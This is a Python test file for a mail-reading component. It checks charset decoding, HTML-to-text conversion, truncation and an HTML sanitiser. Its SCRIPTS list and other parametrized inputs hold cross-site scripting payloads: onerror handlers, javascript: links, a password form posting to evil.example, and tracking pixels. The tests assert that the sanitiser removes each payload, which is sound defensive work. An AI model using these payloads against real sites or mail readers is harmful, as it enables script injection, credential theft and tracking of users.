"""Bodies from strangers become plain text and harmless HTML, in a process that can be killed."""

from __future__ import annotations

import base64
import json
import re
from collections.abc import AsyncIterator

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.child import Child
from app.providers import reading
from app.providers.reading import CLEANER, MOST_BYTES, Part, Reading, decode, readable, text_of


@pytest.fixture
async def child() -> AsyncIterator[Child]:
    """The process that reads."""
    async with Child(reading.work) as made:
        yield made


def html(text: str) -> Part:
    """Return an HTML body."""
    return Part(media_type="text/html", charset="utf-8", body=text.encode())


def plain(text: str, charset: str = "utf-8") -> Part:
    """Return a plain body."""
    return Part(media_type="text/plain", charset=charset, body=text.encode(charset))


def worked(*parts: Part) -> dict[str, object]:
    """Return what the work makes of these, here and now."""
    question = [[part.media_type, part.charset, base64.b64encode(part.body).decode()] for part in parts]
    answer: dict[str, object] = json.loads(reading.work(json.dumps(question).encode()))
    return answer


async def test_plain_words_are_read_as_they_are(child: Child) -> None:
    assert await readable(child, [plain("Hola ñ\r\nadiós\r\n")]) == Reading(text="Hola ñ\nadiós")


async def test_of_plain_words_and_html_the_plain_ones_are_the_text(child: Child) -> None:
    read = await readable(child, [plain("plain"), html("<p>rich</p>")])
    assert (read.text, read.html) == ("plain", "<p>rich</p>")


async def test_html_alone_gives_the_text_too(child: Child) -> None:
    read = await readable(child, [plain(" \n"), html("<h1>News</h1><p>Roses &amp; thorns</p>")])
    assert read.text == "News\n\nRoses & thorns"


async def test_parts_that_are_no_words_are_not_read(child: Child) -> None:
    assert await readable(child, [Part(media_type="image/png", body=b"\x89PNG")]) == Reading()


async def test_several_bodies_follow_one_another(child: Child) -> None:
    assert (await readable(child, [plain("one"), plain("two")])).text == "one\ntwo"


async def test_a_body_that_is_too_long_is_cut_and_says_so(child: Child) -> None:
    read = await readable(child, [plain("ñ" * MOST_BYTES)])
    assert read.text == "ñ" * (MOST_BYTES // 2)
    assert (read.readable, read.whole) == (True, False)


async def test_an_odd_cut_does_not_spoil_the_letters_before_it(child: Child) -> None:
    read = await readable(child, [plain("x" + "ñ" * MOST_BYTES)])
    assert read.text == "x" + "ñ" * (MOST_BYTES // 2 - 1)


async def test_many_bodies_are_cut_as_a_whole(child: Child) -> None:
    read = await readable(child, [plain("x" * MOST_BYTES)] * 8)
    assert not read.whole
    assert len(read.text) < 5 * MOST_BYTES


async def test_more_parts_than_anybody_writes_are_left_out(child: Child) -> None:
    read = await readable(child, [plain("x")] * 500)
    assert (read.whole, len(read.text)) == (False, 399)


async def test_what_takes_too_long_is_not_readable_and_the_next_letter_is() -> None:
    async with Child(reading.work, cpu_seconds=0.5) as child:
        assert await readable(child, [html("<div>" * 100_000)]) == Reading(readable=False, whole=False)
        assert (await readable(child, [plain("next")])).text == "next"


@pytest.mark.parametrize(
    "hostile",
    [
        "<table><tr><td>" * 20_000,
        "<b><p>" * 5_000,
        "<a>" * 20_000,
        "<" * 500_000,
        "&#" * 300_000,
        "<!--" * 100_000,
        "<![CDATA[" * 100_000,
        "<a href='" + "x" * 900_000,
        "<svg><style><img src=x onerror=alert(1)>" * 1000,
        "\x00" * 100_000,
    ],
    ids=lambda each: each[:8],
)
async def test_broken_html_of_any_size_is_read_or_given_up(child: Child, hostile: str) -> None:
    read = await readable(child, [html(hostile)])
    assert isinstance(read.readable, bool)
    assert "<svg" not in read.html
    assert "onerror" not in read.html


SCRIPTS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='x'></object><embed src='x'>",
    "<form action='https://evil.example'><input name=password><button>Go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<base href='https://evil.example/'>",
    "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example)}</style>",
    "<div style='background:url(https://evil.example/pixel)'>x</div>",
    "<img src='https://evil.example/pixel.gif' width=1 height=1>",
    "<img srcset='https://evil.example/a 2x'>",
    "<img src='cid:part1'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<body background='https://evil.example/pixel' onload=alert(1)>",
    "<table background='https://evil.example/pixel'><tr><td background='https://evil.example/p'>x</td></tr></table>",
    "<video poster='https://evil.example/p'><source src='https://evil.example/v'></video>",
    "<audio src='https://evil.example/a' autoplay></audio>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><script>alert(1)</script></textarea>",
    "<template><script>alert(1)</script></template>",
    "<p id=x name=y class=z onclick=alert(1)>x</p>",
    "<a href='//evil.example/x' ping='https://evil.example/ping'>x</a>",
    "<a href='/sign-out'>x</a>",
    "<details ontoggle=alert(1) open>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<?xml-stylesheet href='https://evil.example'?>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
]
MAY_STAND = re.compile(r"https?://|mailto:|tel:")


@pytest.mark.parametrize("script", SCRIPTS)
def test_nothing_in_a_letter_runs_loads_or_leads_astray(script: str) -> None:
    cleaned = CLEANER.clean(script)
    assert not re.search(r"<(script|style|svg|math|iframe|object|embed|form|input|meta|link|base|video|audio)", cleaned)
    assert not re.search(r"\s(on\w+|src|srcset|style|background|poster|ping|action|id|class|name)\s*=", cleaned)
    assert "javascript:" not in cleaned
    for target in re.findall(r'href="([^"]*)"', cleaned):
        assert MAY_STAND.match(target)


def test_a_link_opens_apart_and_tells_nothing_of_where_it_stood() -> None:
    cleaned = CLEANER.clean('<a href="https://x.example/?a=1" target="_top" rel="opener">x</a>')
    assert 'rel="noopener noreferrer nofollow"' in cleaned
    assert 'target="_blank"' in cleaned
    assert 'href="https://x.example/?a=1"' in cleaned


def test_a_picture_leaves_its_words() -> None:
    assert worked(html('<p><img src="https://evil.example/x" alt="Our logo"> Hello</p>'))["text"] == "Our logo Hello"


@given(st.text(max_size=300))
def test_cleaning_twice_changes_nothing_more(text: str) -> None:
    once = CLEANER.clean(text)
    assert CLEANER.clean(once) == once


@given(st.text(alphabet="<>&;/!-='\" abpdivscript", max_size=120))
def test_any_soup_of_tags_becomes_text(text: str) -> None:
    assert "\x00" not in text_of(CLEANER.clean(text))


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("<p>one</p><p>two</p>", "one\n\ntwo"),
        ("one<br>two<br/>three", "one\ntwo\nthree"),
        ("<div>one<div>two</div></div>three", "one\ntwo\nthree"),
        ("<ul><li>a<li>b</ul>after", "- a\n- b\n\nafter"),
        ("<table><tr><td>1</td><td>2</td></tr><tr><td>3</td></tr></table>", "1 2\n3"),
        ("a  lot\n of   space", "a lot of space"),
        ("<pre>two\nlines</pre>", "two\nlines"),
        ("a&nbsp;b &lt;c&gt; &amp;amp;", "a b <c> &amp;"),
        ("<b>bo</b><i>ld</i>", "bold"),
        ("<p></p><p></p><p>x</p>", "x"),
        ("", ""),
    ],
)
def test_html_becomes_lines(source: str, expected: str) -> None:
    assert text_of(CLEANER.clean(source)) == expected


@pytest.mark.parametrize(
    ("body", "charset", "expected"),
    [
        ("España".encode(), "utf-8", "España"),
        ("España".encode(), "iso-8859-1", "España"),  # Gmail hands over UTF-8 whatever was declared
        ("España".encode("latin-1"), "iso-8859-1", "España"),
        ("España".encode("latin-1"), "utf-8", "Espa\ufffda"),
        ("España".encode("cp1252"), "", "España"),
        ("España".encode("cp1252"), "x-unknown", "España"),
        ("España".encode("cp1252"), "base64", "España"),
        ("“quoted”".encode("cp1252"), "us-ascii", "“quoted”"),
        ("日本".encode("iso2022_jp"), "ISO-2022-JP", "日本"),
        ("日本".encode("shift_jis"), "Shift_JIS", "日本"),
        ("Привет".encode("koi8-r"), "koi8-r", "Привет"),
        ("Hi".encode("utf-16"), "utf-16", "Hi"),
        (b"Hi", "utf-16", "Hi"),
        (b"\xef\xbb\xbfHi", "utf-8", "Hi"),
        (b"+ADw-script+AD4-", "utf-7", "+ADw-script+AD4-"),
        (b"", "utf-8", ""),
    ],
)
def test_every_charset_is_read_as_well_as_can_be(body: bytes, charset: str, expected: str) -> None:
    if "\ufffd" in expected:
        assert decode(body, charset).startswith("Espa")
    else:
        assert decode(body, charset) == expected


@given(st.binary(max_size=100), st.text(max_size=20))
def test_any_bytes_of_any_charset_become_text(body: bytes, charset: str) -> None:
    assert isinstance(decode(body, charset), str)


async def test_mail_shows_in_no_repr() -> None:
    assert "secret words" not in repr(plain("secret words"))
